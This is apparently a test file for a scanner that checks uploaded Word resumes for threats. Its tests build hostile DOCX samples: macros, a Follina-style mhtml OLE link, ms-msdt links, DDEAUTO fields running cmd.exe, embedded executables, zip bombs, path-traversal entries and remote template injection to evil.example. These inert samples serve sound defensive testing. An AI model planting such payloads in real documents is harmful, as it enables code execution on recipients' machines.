import { resumeAsDocx } from '@test/builders/resume-files';
import { sampleResume, sampleResumeNames } from '@test/builders/resume-markup';
import {
  buildCfb,
  overlappingZip,
  rawZip,
  relationships,
  withMacros,
  withZipEntries,
  zeroBombZip,
} from '@test/builders/scan-samples';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { Finding } from './finding';
import { scanOffice } from './scan-office';

/** A Word resume as the docx library writes it: the document every hostile variant below starts from. */
const docx = await resumeAsDocx(sampleResume('staff-accountant'));
const kinds = (findings: Finding[]) => findings.map((f) => `${f.kind}:${f.severity}`).sort();
const ddeDocument = (instruction: string) =>
  '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>' +
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction}<w:r><w:fldChar w:fldCharType="end"/></w:r>` +
  '</w:p></w:body></w:document>';

describe('scanOffice', () => {
  it('finds nothing in ordinary Word resumes', async () => {
    for (const name of sampleResumeNames) {
      expect(scanOffice(await resumeAsDocx(sampleResume(name))), name).toEqual([]);
    }
  });

  it('finds macros added to a DOCX', () => {
    const findings = scanOffice(withMacros(docx));
    expect(findings).toContainEqual(
      expect.objectContaining({
        severity: 'high',
        kind: 'macro',
        isScript: true,
        message: expect.stringMatching(/macros/),
      }),
    );
  });

  it('finds an external OLE object (the Follina pattern) and a network-share picture', () => {
    const follina = withZipEntries(docx, {
      'word/_rels/document.xml.rels': relationships('oleObject', 'mhtml:https://evil.example/x.html!x-usc:x'),
    });
    expect(kinds(scanOffice(follina))).toContain('external-object:high');
    const share = withZipEntries(docx, {
      'word/_rels/document.xml.rels': relationships('image', '\\\\attacker\\share\\pixel.png'),
    });
    expect(kinds(scanOffice(share))).toContain('external-object:high');
  });

  it('keeps flagging linked objects, frames and pictures wherever they point, a local path included', () => {
    const linked = (type: string, target: string) =>
      kinds(
        scanOffice(withZipEntries(docx, { 'word/_rels/document.xml.rels': relationships(type, target) })),
      );
    expect(linked('oleObject', 'file:///C:/Users/jane/Documents/budget.xlsx')).toEqual([
      'external-object:high',
    ]);
    expect(linked('frame', 'https://evil.example/frame.html')).toEqual(['external-object:high']);
    expect(linked('subDocument', 'C:\\Users\\jane\\chapter.docx')).toEqual(['external-object:high']);
    expect(linked('image', 'https://tracker.example/pixel.png')).toEqual(['remote-content:medium']);
  });

  it('only counts ordinary web hyperlinks, but flags file: and script links', () => {
    const web = withZipEntries(docx, {
      'word/_rels/document.xml.rels': relationships('hyperlink', 'https://www.linkedin.com/in/jane'),
    });
    expect(kinds(scanOffice(web))).toEqual(['external-links:low']);
    const file = withZipEntries(docx, {
      'word/_rels/document.xml.rels': relationships('hyperlink', 'file:///C:/Windows/System32/calc.exe'),
    });
    expect(kinds(scanOffice(file))).toEqual(['local-link:medium']);
    const handler = withZipEntries(docx, {
      'word/_rels/document.xml.rels': relationships('hyperlink', 'ms-msdt:/id PCWDiagnostic'),
    });
    expect(kinds(scanOffice(handler))).toEqual(['dangerous-link:high']);
  });

  it('finds DDE fields, even split over several runs', () => {
    const split = ddeDocument(
      '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>' +
        '<w:r><w:instrText>AUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>',
    );
    expect(kinds(scanOffice(withZipEntries(docx, { 'word/document.xml': split })))).toContain('dde:high');
    const simple =
      '<w:document xmlns:w="x"><w:body><w:fldSimple w:instr=" DDEAUTO cmd &quot;/c calc&quot;"/></w:body></w:document>';
    expect(kinds(scanOffice(withZipEntries(docx, { 'word/document.xml': simple })))).toContain('dde:high');
    const page = ddeDocument('<w:r><w:instrText> PAGE \\* MERGEFORMAT </w:instrText></w:r>');
    expect(scanOffice(withZipEntries(docx, { 'word/document.xml': page }))).toEqual([]);
  });

  it('finds ActiveX controls and embedded programs', () => {
    expect(kinds(scanOffice(withZipEntries(docx, { 'word/activeX/activeX1.xml': '<ax/>' })))).toContain(
      'activex:high',
    );
    const ole = buildCfb([
      {
        name: '\u0001Ole10Native',
        content: strToU8('\u0000\u0000invoice.pdf.exe\u0000C:\\x\\invoice.pdf.exe\u0000'),
      },
    ]);
    const findings = kinds(scanOffice(withZipEntries(docx, { 'word/embeddings/oleObject1.bin': ole })));
    expect(findings).toEqual(expect.arrayContaining(['embedded-executable:high', 'ole-object:medium']));
    const program = new Uint8Array(256);
    program.set(strToU8('MZ'));
    expect(kinds(scanOffice(withZipEntries(docx, { 'word/media/image9.png': program })))).toContain(
      'embedded-executable:high',
    );
  });

  it('flags archives nested inside the document', () => {
    const inner = zipSync({ 'payload.txt': strToU8('hello') });
    expect(kinds(scanOffice(withZipEntries(docx, { 'word/media/photos.zip': inner })))).toContain(
      'nested-archive:medium',
    );
  });

  it('stops a 200 MB zip bomb from its declared size, without inflating it', () => {
    const bomb = zeroBombZip(200);
    expect(bomb.length).toBeLessThan(400_000);
    const started = performance.now();
    expect(kinds(scanOffice(bomb))).toEqual(['zip-bomb:high']);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('stops an entry that inflates past what its header declares', () => {
    // Declares 1 KB, holds 20 MB of zeros: only the capped inflate can catch it.
    expect(kinds(scanOffice(zeroBombZip(20, 1024)))).toEqual(['zip-bomb:high']);
  });

  it('stops archives with too many entries or overlapping entries', () => {
    const many: Record<string, Uint8Array> = {};
    for (let i = 0; i < 1001; i++) many[`word/media/p${i}.xml`] = strToU8('<p/>');
    expect(kinds(scanOffice(zipSync(many)))).toContain('archive-abuse:high');
    expect(kinds(scanOffice(overlappingZip()))).toContain('zip-bomb:high');
  });

  it('finds entries whose names escape the archive', () => {
    for (const name of ['../../evil.txt', '/etc/cron.d/evil', 'C:/Windows/evil.dll', 'word\\..\\evil.txt']) {
      const zip = rawZip([{ name, data: strToU8('x') }]);
      expect(kinds(scanOffice(zip)), name).toContain('path-traversal:high');
    }
  });

  it('reports encrypted entries and damaged archives', () => {
    const encrypted = rawZip([{ name: 'word/document.xml', data: strToU8('xxxx'), flags: 1 }]);
    expect(kinds(scanOffice(encrypted))).toEqual(['encrypted:medium']);
    expect(kinds(scanOffice(docx.subarray(0, docx.length - 30)))).toEqual(['damaged:medium']);
    const corrupt = rawZip([
      { name: 'word/document.xml', method: 8, data: new Uint8Array([0xff, 0xff, 0xff]) },
    ]);
    expect(kinds(scanOffice(corrupt))).toEqual(['damaged:medium']);
  });

  it('keeps the archive readable: the scan does not change the input', () => {
    const copy = docx.slice();
    scanOffice(copy);
    expect(Object.keys(unzipSync(copy))).toContain('word/document.xml');
  });
});

/** A document made from a template: Word names the template in settings.xml.rels, as an external target. */
const fromTemplate = (target: string) =>
  withZipEntries(docx, { 'word/_rels/settings.xml.rels': relationships('attachedTemplate', target) });

describe('scanOffice on the template a document was made from', () => {
  // Documents made from Office's own templates name them by their path on the author's disk: nothing is fetched.
  it.each([
    'file:///C:\\Users\\jane\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm',
    'file:///C:/Users/jane/AppData/Roaming/Microsoft/Templates/Modern%20chronological%20resume.dotx',
    'C:\\Users\\jane\\Documents\\Custom Office Templates\\Resume.dotx',
    '/Users/jane/Library/Group Containers/UBF8T346G9.Office/User Content.localized/Templates.localized/Normal.dotm',
    'FILE:///d:/Templates/Resume.dotx',
  ])('only notes a template on a local drive: %s', (target) => {
    const findings = scanOffice(fromTemplate(target));
    expect(findings).toEqual([
      {
        severity: 'info',
        kind: 'local-template',
        message:
          "This Word file names the template it was made from, on its author's computer; it loads nothing from another location.",
      },
    ]);
  });

  // Remote template injection: Word fetches a template on another machine (a web or FTP server, a share).
  it.each([
    'http://evil.example/t.dotm',
    'https://evil.example/t.dotm',
    'HTTPS://evil.example/t.dotm',
    'ftp://evil.example/t.dotm',
    '\\\\evil.example\\share\\t.dotm',
    'file://evil.example/share/t.dotm',
    'FiLe://evil.example/share/t.dotm',
    'file:////evil.example/share/t.dotm',
    'file:///\\\\evil.example\\share\\t.dotm',
    'file:///%5C%5Cevil.example%5Cshare%5Ct.dotm',
    // Windows reads a path starting with two slashes as a network share.
    '//evil.example/share/t.dotm',
    'mhtml:https://evil.example/t.mht!x',
    // A bare name is looked up beside the document, which may itself sit on a share.
    'Normal.dotm',
  ])('refuses a template from another location: %s', (target) => {
    expect(kinds(scanOffice(fromTemplate(target)))).toEqual(['external-template:high']);
  });

  it('refuses the document when a remote template sits beside a local one', () => {
    const both =
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' +
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:/Templates/Normal.dotm" TargetMode="External"/>' +
      '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>' +
      '</Relationships>';
    const findings = scanOffice(withZipEntries(docx, { 'word/_rels/settings.xml.rels': both }));
    expect(kinds(findings)).toEqual(['external-template:high', 'local-template:info']);
  });
});
